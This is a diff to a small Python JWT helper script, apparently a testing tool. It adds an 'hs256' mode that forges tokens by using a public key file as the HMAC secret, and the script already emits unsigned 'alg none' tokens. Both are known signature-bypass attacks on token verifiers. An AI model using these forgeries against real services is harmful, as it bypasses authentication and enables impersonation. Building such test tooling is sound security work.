@@ -5,7 +5,10 @@
 #   jwt_tool.py jwks PEM KID              the JWKS of PEM's EC P-256 public key
 #   jwt_tool.py sign PEM HEADER CLAIMS    a compact JWS, ES256 (HEADER without alg)
 #   jwt_tool.py none HEADER CLAIMS        an unsigned token (alg none)
-import base64, json, re, subprocess, sys
+#   jwt_tool.py hs256 KEYFILE HEADER CLAIMS  HS256 with KEYFILE's bytes as the
+#                                         secret (the old attack: a public key
+#                                         used as an HMAC key)
+import base64, hashlib, hmac, json, re, subprocess, sys
 
 
 def b64(data):
@@ -44,6 +47,12 @@ def main():
     if cmd == "none":
         header = dict(json.loads(sys.argv[2]), alg="none")
         print(b64(json.dumps(header).encode()) + "." + b64(sys.argv[3].encode()) + ".")
+        return
+    if cmd == "hs256":
+        secret = open(sys.argv[2], "rb").read()
+        header = dict({"alg": "HS256"}, **json.loads(sys.argv[3]))
+        signing = (b64(json.dumps(header).encode()) + "." + b64(sys.argv[4].encode())).encode()
+        print(signing.decode() + "." + b64(hmac.new(secret, signing, hashlib.sha256).digest()))
         return
     header = dict({"alg": "ES256"}, **json.loads(sys.argv[3]))
     signing = (b64(json.dumps(header).encode()) + "." + b64(sys.argv[4].encode())).encode()
